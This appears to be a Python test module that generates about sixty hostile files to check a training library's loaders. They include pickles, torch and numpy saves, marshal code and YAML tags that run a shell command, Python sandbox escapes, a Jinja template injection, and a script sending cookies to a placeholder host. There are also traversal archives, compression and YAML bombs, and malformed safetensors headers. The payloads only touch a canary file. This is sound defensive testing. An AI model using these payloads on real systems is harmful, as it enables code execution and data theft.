"""Sixty files and other things that a stranger might leave where gptmill reads.

Those that can execute something do so when handed to the library they are made for (``fires``), which shows that they
are live: they make the file ``canary``.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import marshal
import os
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any


@dataclass(frozen=True)
class Payload:
    """Args: lay: puts it at a path; fires: what would execute it, given the path; None = it cannot, it costs memory or time."""

    name: str
    lay: Callable[[Path], None]
    fires: Callable[[Path], Any] | None = None


def payloads(canary: Path) -> list[Payload]:
    touch = f"touch {canary}"
    return [*_pickles(touch), *_containers(touch), *_programs(touch), *_costly(), *_safetensors(), *_no_files(canary)]


class _Runs:
    """Unpickles into a command."""

    def __init__(self, command: str, call: Callable[..., Any] = os.system) -> None:
        self._made = (call, (command,))

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[str]]:
        return self._made


def _put(name: str, data: bytes, fires: Callable[[Path], Any] | None = None) -> Payload:
    return Payload(name, lambda path: _write(path, data), fires)


def _write(path: Path, data: bytes) -> None:
    path.write_bytes(data)


def _unpickle(path: Path) -> Any:
    return _loads(path.read_bytes())


def _loads(data: bytes) -> Any:
    return pickle.loads(data)  # noqa: S301  (this shows that the payload is live)


def _pickles(touch: str) -> list[Payload]:
    """Protocols and opcodes by which a pickle runs a command."""
    bare, word = _Runs(touch), touch.encode()
    made = {f"pickle protocol {n}": pickle.dumps(bare, n) for n in range(6)}
    made |= {
        "pickle by global and reduce": b"cposix\nsystem\n(V" + word + b"\ntR.",
        "pickle by inst": b"(V" + word + b"\niposix\nsystem\n.",
        "pickle by obj": b"(cposix\nsystem\nV" + word + b"\no.",
        "pickle by stack global": b"\x80\x04\x8c\x05posix\x8c\x06system\x93(V" + word + b"\ntR.",
        "pickle by eval": pickle.dumps(_Runs(f"__import__('os').system({touch!r})", eval)),
        "pickle by exec": pickle.dumps(_Runs(f"import os; os.system({touch!r})", exec)),
        "pickle within a dict, after numbers": pickle.dumps({"model": [1.0] * 99, "iter_num": _Runs(touch)}),
        "pickle with its memo turned over": b"\x80\x04\x8c\x06system\x94\x8c\x05posix\x94h\x01h\x00\x93(V"
        + word
        + b"\ntR.",
    }
    return [_put(name, data, _unpickle) for name, data in made.items()]


def _containers(touch: str) -> list[Payload]:
    """Pickles in the formats of torch, numpy and joblib, and archives."""
    import numpy as np
    import torch

    live, found = {"model": {"wte.weight": _Runs(touch)}}, []

    def load(path: Path) -> Any:
        return torch.load(path, weights_only=False)

    for name, zipped in (("torch.save", True), ("torch.save, legacy", False)):
        out = io.BytesIO()
        torch.save(live, out, _use_new_zipfile_serialization=zipped)
        found.append(_put(name, out.getvalue(), load))
    out = io.BytesIO()
    np.save(out, np.array([_Runs(touch)], dtype=object), allow_pickle=True)
    found.append(_put(".npy of objects", out.getvalue(), lambda path: np.load(path, allow_pickle=True)))
    out = io.BytesIO()
    np.savez(out, a=np.array([_Runs(touch)], dtype=object))
    found.append(_put(".npz of objects", out.getvalue(), lambda path: np.load(path, allow_pickle=True)["a"]))
    raw = pickle.dumps(_Runs(touch))
    for name, pack in (("gzip", gzip), ("bzip2", bz2)):
        found.append(
            _put(
                f"pickle in {name}",
                pack.compress(raw),
                lambda path, pack=pack: _loads(pack.decompress(path.read_bytes())),
            )
        )
    found += [
        _put(
            "code object by marshal",
            marshal.dumps(compile(f"import os; os.system({touch!r})", "x", "exec")),
            _unmarshal,
        )
    ]
    found += [Payload("folder of torch's distributed checkpoint", lambda path: _dcp(path, raw), _load_dcp)]
    found += [
        _put(
            "pickle under a safetensors header",
            struct.pack("<Q", 2) + b"{}" + raw,
            lambda path: _loads(path.read_bytes()[10:]),
        )
    ]
    found += [
        _put("tar that climbs out", _tar(), None),
        _put("zip that climbs out", _zip({"../../escaped": b"x"}), None),
    ]
    found += [_put("zip of zeros, 1,000 to 1", _zip({"data": bytes(64 * 2**20)}), None)]
    found += [_put("gzip of zeros, 1,000 to 1", gzip.compress(bytes(64 * 2**20)), None)]
    return found


def _unmarshal(path: Path) -> Any:
    exec(marshal.loads(path.read_bytes()), {})  # noqa: S102  (this shows that the payload is live)


def _dcp(path: Path, raw: bytes) -> None:
    path.mkdir()
    (path / ".metadata").write_bytes(raw)


def _load_dcp(path: Path) -> Any:
    from torch.distributed.checkpoint import FileSystemReader

    return FileSystemReader(path).read_metadata()


def _tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        for name, kind in (
            ("../../escaped", tarfile.REGTYPE),
            ("/tmp/escaped", tarfile.REGTYPE),
            ("link", tarfile.SYMTYPE),
        ):
            member = tarfile.TarInfo(name)
            member.type, member.linkname = kind, "/etc"
            tar.addfile(member)
    return out.getvalue()


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def _programs(touch: str) -> list[Payload]:
    """Programs, templates, and configs that name code."""
    import yaml

    def execute(path: Path) -> Any:
        exec(path.read_text(), {})  # noqa: S102  (this shows that the payload is live)

    def unsafe(path: Path) -> Any:
        return yaml.unsafe_load(path.read_text())

    def shell(path: Path) -> Any:
        return os.system(f"sh {path}")

    lines = {
        "python that imports os": f"import os\nn_layer = os.system({touch!r})\n",
        "python that imports itself into builtins": f"n_layer = __import__('os').system({touch!r})\n",
        "python in a lambda": f"n_layer = (lambda: __import__('os').system({touch!r}))()\n",
        "python by way of classes": "n_layer = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close']"
        f"[0].__init__.__globals__['system']({touch!r})\n",
        "python in a default argument": f"def f(x=__import__('os').system({touch!r})): pass\n",
    }
    tags = {
        "yaml that applies": f"n_layer: !!python/object/apply:os.system ['{touch}']\n",
        "yaml that makes new": f"!!python/object/new:os.system ['{touch}']\n",
    }
    named = {
        "json that names a class": json.dumps({"_target_": "os.system", "command": touch, "_instantiator": "os.system"}),
        "json of Hugging Face with code": json.dumps({
            "model_type": "gpt2", "auto_map": {"AutoModel": "modeling.Evil"}, "trust_remote_code": True, "kind": "os:system",
            "chat_template": "{{ cycler.__init__.__globals__.os.popen('" + touch + "') }}", "keys": {}, "format": "gptmill-run",
        }),
        "Kconfig that asks a shell": f'CONFIG_N_LAYER=$(shell,{touch})\nCONFIG_DATASET="$(shell,{touch})"\n',
        "html with a script": "<script>fetch('http://example.invalid/' + document.cookie)</script><img src=x onerror=alert(1)>\n",
        "escapes for a terminal": "\x1b]0;owned\x07\x1b[2J\x1b[31m\u202eeslaf\r\nerror: forged\n",
    }  # fmt: skip
    return [
        *(_put(name, text.encode(), execute) for name, text in lines.items()),
        *(_put(name, text.encode(), unsafe) for name, text in tags.items()),
        _put("shell script", f"#!/bin/sh\n{touch}\n".encode(), shell),
        *(_put(name, text.encode()) for name, text in named.items()),
    ]


def _costly() -> list[Payload]:
    """What costs memory or time rather than running anything."""
    bomb = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(12)
    )
    return [
        _put("yaml bomb", bomb.encode()),
        _put("json 100,000 deep", b"[" * 100_000),
        _put("json of a number of a million digits", b'{"n_layer": ' + b"9" * 10**6 + b"}\n"),
        _put(
            "json with a key twice, and NaN", b'{"n_layer": 1, "n_layer": NaN, "event": "step_done", "iter": 1e999}\n'
        ),
        _put("one line of 64 MiB", b"a" * (64 * 2**20)),
        _put("a million line ends", b"\n" * 10**6),
        _put("lone surrogates and NUL", b'{"text": "\\ud800"}\n\xed\xa0\x80\x00\xff\xfe'),
        _put("parquet that is only magic", b"PAR1" + b"\xff" * 64 + struct.pack("<I", 2**31) + b"PAR1"),
    ]


def _safetensors() -> list[Payload]:
    """Headers that lie."""

    def st(header: Any, length: int | None = None, data: bytes = b"") -> bytes:
        text = header if isinstance(header, bytes) else json.dumps(header).encode()
        return struct.pack("<Q", len(text) if length is None else length) + text + data

    def one(**changes: Any) -> dict[str, Any]:
        return {"wte.weight": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8], **changes}}

    return [
        _put("safetensors, header of 2^60", st(one(), 2**60)),
        _put("safetensors, header of 2^64 - 1", st(one(), 2**64 - 1)),
        _put("safetensors, tensors overlap", st({**one(), "b": one()["wte.weight"]}, data=bytes(8))),
        _put("safetensors, offsets past the end", st(one(data_offsets=[0, 2**40], shape=[2**38]), data=bytes(8))),
        _put("safetensors, shape overflows", st(one(shape=[2**62, 2**62]), data=bytes(8))),
        _put("safetensors, 100,000 tensors", st({f"t{n}": {"dtype": "F32", "shape": [0], "data_offsets": [0, 0]} for n in range(100_000)})),
    ]  # fmt: skip


def _no_files(canary: Path) -> list[Payload]:
    """What stands in a file's place and is none, or not the one it seems."""

    def sparse(path: Path) -> None:
        with path.open("wb") as file:
            file.truncate(2**40)

    def folder(path: Path) -> None:
        path.mkdir()
        (path / "file").write_bytes(b"x")

    def link(target: str) -> Callable[[Path], None]:
        return lambda path: path.symlink_to(target)

    secret = canary.with_name("secret")
    secret.write_text("do-not-print-me\n")
    return [
        Payload("link to /dev/zero", link("/dev/zero")),
        Payload("pipe without a writer", os.mkfifo),
        Payload("link to itself", lambda path: path.symlink_to(path.name)),
        Payload("link to someone else's file", link(str(secret))),
        Payload("folder", folder),
        Payload("1 TiB of holes", sparse),
    ]
